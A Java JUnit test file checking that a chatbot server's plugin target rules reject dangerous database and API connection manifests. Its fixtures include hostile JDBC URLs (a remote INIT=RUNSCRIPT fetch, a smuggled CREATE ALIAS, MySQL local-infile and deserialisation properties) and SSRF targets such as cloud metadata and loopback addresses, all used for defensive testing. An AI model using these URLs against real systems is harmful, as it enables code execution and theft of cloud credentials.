package sh.smarter.prompt.tests.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import sh.smarter.prompt.cli.failure.ExitCode;
import sh.smarter.prompt.core.json.JsonArray;
import sh.smarter.prompt.core.json.JsonObject;
import sh.smarter.prompt.tests.fake.FakeOpenAiServer;
import sh.smarter.prompt.tests.fake.Reply;

/**
 * The plugin target rules as a user of {@code prompt serve} meets them. An account's key applies connections over
 * {@code POST /api/v1/cli/apply/} (and the operator with {@code prompt apply}): each rule refuses its manifest with
 * 400 naming the field and the rule, and nothing is stored. Connections that were accepted under wider operator
 * settings (or before the rules existed) do not run once the settings are narrower: the check is made again before
 * every call, and the target never sees a request.
 */
class PluginTargetRulesTest {
    private static final HttpClient HTTP = HttpClient.newHttpClient();

    @TempDir
    Path home;

    /** A manifest that one rule refuses, the field and rule the answer must name, and what else it must say. */
    private record Refused(String name, String manifest, String field, String rule, String mention) {
    }

    private List<Refused> refusedManifests() {
        Path store = home.resolve(".local/share/smarter-prompt/smarter-prompt");
        return List.of(
                // The attack of issue 12: the server's own embedded database, as sa with an empty password.
                sql("own_store", "jdbc:h2:file:" + store + ";AUTO_SERVER=TRUE", "own-database",
                        store.toString()),
                sql("own_store_again", "jdbc:h2:" + store.getParent().resolve("../smarter-prompt/smarter-prompt")
                        + ";IFEXISTS=TRUE", "own-database", "stores its sessions"),
                sql("postgres_db", "jdbc:postgresql://db.example.com/reports", "sql-driver", "postgresql driver"),
                sql("init_script", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://203.0.113.9/x.sql'", "sql-url-property",
                        "setting INIT"),
                sql("alias_code", "jdbc:h2:mem:x;MODE=MySQL\\;CREATE ALIAS EXEC AS 'void e(String c) {}'",
                        "sql-url-property", "CREATE ALIAS"),
                sql("local_infile", "jdbc:mysql://db.example.com:3306/reports?allowLoadLocalInfile=true",
                        "sql-url-property", "property allowLoadLocalInfile"),
                sql("url_infile", "jdbc:mysql://db.example.com/reports?allowUrlInLocalInfile=true",
                        "sql-url-property", "property allowUrlInLocalInfile"),
                sql("deserialise", "jdbc:mysql://db.example.com/reports?autoDeserialize=true", "sql-url-property",
                        "property autoDeserialize"),
                sql("interceptor", "jdbc:mysql://db.example.com/reports?queryInterceptors=com.example.Spy",
                        "sql-url-property", "property queryInterceptors"),
                sql("balanced", "jdbc:mysql:loadbalance://a.example.com,b.example.com/reports", "sql-url-form",
                        "one host"),
                api("loopback_api", "http://127.0.0.1:9/", "127.0.0.1 resolves to 127.0.0.1, a loopback address"),
                api("aws_metadata", "http://169.254.169.254/latest/meta-data/", "a link-local address"),
                api("aws_metadata_v6", "http://[fd00:ec2::254]/latest/", "unique-local"),
                api("gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/", "cloud metadata"),
                api("private_api", "http://10.20.30.40/", "a private address"));
    }

    private static Refused sql(String name, String url, String rule, String mention) {
        return new Refused(name, "apiVersion: smarter.sh/v1\nkind: SqlConnection\nmetadata: {name: " + name + "}\n"
                + "spec:\n  connection: {url: \"" + url.replace("\\", "\\\\") + "\", username: sa}\n",
                "spec.connection.url", rule, mention);
    }

    private static Refused api(String name, String url, String mention) {
        return new Refused(name, "apiVersion: smarter.sh/v1\nkind: ApiConnection\nmetadata: {name: " + name + "}\n"
                + "spec:\n  connection: {baseUrl: \"" + url + "\"}\n", "spec.connection.baseUrl", "api-address",
                mention);
    }

    @Test
    void each_rule_refuses_its_manifest_over_http_and_in_prompt_apply_naming_field_and_rule_and_stores_nothing(
            @TempDir Path files) throws Exception {
        // Even with H2 allowed (so that the H2 rules behind the driver rule are reached).
        CliHarness cli = new CliHarness(home).env("SMARTER_PROMPT_ALLOW_SQL_DRIVERS", "h2");
        Path chatbot = files.resolve("chatbot.yaml");
        Files.writeString(chatbot, "apiVersion: smarter.sh/v1\nkind: Chatbot\nmetadata: {name: helper}\n"
                + "spec:\n  config: {deployed: true}\n");
        assertThat(cli.run("apply", "-f", chatbot.toString()).exitCode()).isZero();
        String key = cli.run("keys", "create", "--scope", "admin").out().strip();

        try (RunningServer server = new RunningServer(cli)) {
            for (Refused refused : refusedManifests()) {
                HttpResponse<String> answer = HTTP.send(HttpRequest.newBuilder(
                                URI.create(server.url() + "api/v1/cli/apply/"))
                        .header("Authorization", "Token " + key).header("Content-Type", "application/yaml")
                        .POST(HttpRequest.BodyPublishers.ofString(refused.manifest())).build(),
                        HttpResponse.BodyHandlers.ofString());

                assertThat(answer.statusCode()).as("%s: %s", refused.name(), answer.body()).isEqualTo(400);
                assertThat(answer.body()).as(refused.name())
                        .contains(refused.field() + " is refused by the plugin target rule " + refused.rule() + ": ")
                        .contains(refused.mention().replace("\\", "\\\\").replace("\"", "\\\""));

                Path file = files.resolve(refused.name() + ".yaml");
                Files.writeString(file, refused.manifest());
                CliHarness.Result applied = cli.run("apply", "-f", file.toString());
                assertThat(applied.exitCode()).as(applied.toString()).isEqualTo(ExitCode.USAGE);
                assertThat(applied.err()).as(refused.name()).startsWith("prompt apply: " + file + ": "
                        + refused.field() + " is refused by the plugin target rule " + refused.rule() + ": ");
            }
        }
        for (String kind : List.of("sqlconnections", "apiconnections")) {
            CliHarness.Result listed = cli.run("get", kind, "-o", "json");
            assertThat(listed.exitCode()).as(listed.toString()).isZero();
            for (Refused refused : refusedManifests()) {
                assertThat(listed.out()).as("%s after the refusals", kind).doesNotContain(refused.name());
            }
        }
    }

    @Test
    void h2_needs_the_operator_and_a_manifest_cannot_enable_it() throws IOException {
        Path file = home.resolve("h2.yaml");
        Files.writeString(file, sql("sample_db", "jdbc:h2:mem:courses", "", "").manifest());

        CliHarness.Result refused = new CliHarness(home).run("apply", "-f", file.toString());
        CliHarness.Result allowed = new CliHarness(home).run("apply", "--allow-sql-driver", "h2", "-f",
                file.toString());

        assertThat(refused.exitCode()).isEqualTo(ExitCode.USAGE);
        assertThat(refused.err()).isEqualTo("prompt apply: " + file + ": spec.connection.url is refused by the plugin "
                + "target rule sql-driver: the h2 driver is not enabled on this server (allowed: mariadb, mysql); only "
                + "the operator can enable another driver, in the server settings, never a manifest\n");
        assertThat(allowed.exitCode()).as(allowed.toString()).isZero();
    }

    @Test
    void connections_accepted_under_wider_settings_do_not_run_once_the_operator_narrows_them() throws Exception {
        List<String> apiRequests = new CopyOnWriteArrayList<>();
        HttpServer api = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 8);
        api.createContext("/", exchange -> {
            apiRequests.add(exchange.getRequestURI().toString());
            byte[] body = "{\"courses\": 3}".getBytes(StandardCharsets.UTF_8);
            exchange.getResponseHeaders().set("Content-Type", "application/json");
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        api.start();
        try (FakeOpenAiServer provider = FakeOpenAiServer.start()) {
            CliHarness wide = new CliHarness(home).env("OPENAI_BASE_URL", provider.url())
                    .env("OPENAI_API_KEY", "sk-test-key-0012")
                    .env("SMARTER_PROMPT_ALLOW_SQL_DRIVERS", "h2").env("SMARTER_PROMPT_ALLOW_API_HOSTS", "127.0.0.1");
            assertThat(wide.run("examples", "sample-db").exitCode()).isZero();
            Path manifests = Files.createDirectories(home.resolve("manifests"));
            String sampleDb = "jdbc:h2:file:" + home.resolve(".local/share/smarter-prompt/examples/courses")
                    + ";MODE=MySQL;DATABASE_TO_LOWER=TRUE;AUTO_SERVER=TRUE";
            String[] documents = plugins(sampleDb, "http://127.0.0.1:" + api.getAddress().getPort() + "/")
                    .split("---\n");
            for (int i = 0; i < documents.length; i++) {
                Files.writeString(manifests.resolve(i + ".yaml"), documents[i]);
            }
            CliHarness.Result applied = wide.run("apply", "-f", manifests.toString());
            assertThat(applied.exitCode()).as(applied.toString()).isZero();
            scriptOneToolCall(provider);
            assertThat(wide.run("chat", "course_bot", "-m", "How many?").out()).as("runs under the wide settings")
                    .contains("\"code\":\"PY101\"");
            scriptOneToolCall(provider);
            assertThat(wide.run("chat", "count_bot", "-m", "How many?").out()).contains("{\"courses\":3}");
            apiRequests.clear();

            CliHarness narrow = new CliHarness(home).env("OPENAI_BASE_URL", provider.url())
                    .env("OPENAI_API_KEY", "sk-test-key-0012");
            try (RunningServer server = new RunningServer(narrow)) {
                scriptOneToolCall(provider);
                CliHarness.Result sql = narrow.run("chat", "course_bot", "--server", server.url(), "-m", "How many?");
                scriptOneToolCall(provider);
                CliHarness.Result call = narrow.run("chat", "count_bot", "--server", server.url(), "-m", "How many?");

                assertThat(sql.out()).as(sql.toString()).contains("SQL connection course_db cannot be used: "
                        + "spec.connection.url is refused by the plugin target rule sql-driver: the h2 driver is not "
                        + "enabled on this server").doesNotContain("PY101");
                assertThat(call.out()).as(call.toString()).contains("API connection count_api cannot be used: "
                        + "spec.connection.baseUrl is refused by the plugin target rule api-address: 127.0.0.1 "
                        + "resolves to 127.0.0.1, a loopback address");
            }
            assertThat(apiRequests).as("the API was not called under the narrow settings").isEmpty();
        } finally {
            api.stop(0);
        }
    }

    /** The model calls the chatbot's one plugin tool, then answers with what the tool returned. */
    private static void scriptOneToolCall(FakeOpenAiServer provider) {
        provider.reset();
        provider.respond(request -> Reply.toolCalls(FakeOpenAiServer.toolCall(pluginTool(request.body()),
                        "{}")))
                .respond(request -> Reply.text(request.lastToolResult().orElse("no result")));
    }

    private static String pluginTool(JsonObject body) {
        JsonArray tools = body.array("tools").orElseThrow();
        return tools.stream().map(tool -> ((JsonObject) tool).object("function").orElseThrow().string("name")
                .orElseThrow()).filter(name -> name.startsWith("smarter_plugin_")).findFirst().orElseThrow();
    }

    private static String plugins(String sqlUrl, String apiUrl) {
        return """
                apiVersion: smarter.sh/v1
                kind: SqlConnection
                metadata: {name: course_db}
                spec:
                  connection: {url: "%s", username: sa}
                ---
                apiVersion: smarter.sh/v1
                kind: SqlPlugin
                metadata: {name: course_list}
                spec:
                  selector: {directive: always}
                  connection: course_db
                  sqlData: {description: Lists courses, sqlQuery: "SELECT code FROM courses ORDER BY code"}
                ---
                apiVersion: smarter.sh/v1
                kind: ApiConnection
                metadata: {name: count_api}
                spec:
                  connection: {baseUrl: "%s"}
                ---
                apiVersion: smarter.sh/v1
                kind: ApiPlugin
                metadata: {name: course_count}
                spec:
                  selector: {directive: always}
                  connection: count_api
                  apiData: {description: Counts courses, endpoint: /count, method: GET}
                ---
                apiVersion: smarter.sh/v1
                kind: Chatbot
                metadata: {name: course_bot}
                spec:
                  config: {deployed: true}
                  plugins: [course_list]
                ---
                apiVersion: smarter.sh/v1
                kind: Chatbot
                metadata: {name: count_bot}
                spec:
                  config: {deployed: true}
                  plugins: [course_count]
                """.formatted(sqlUrl, apiUrl);
    }
}
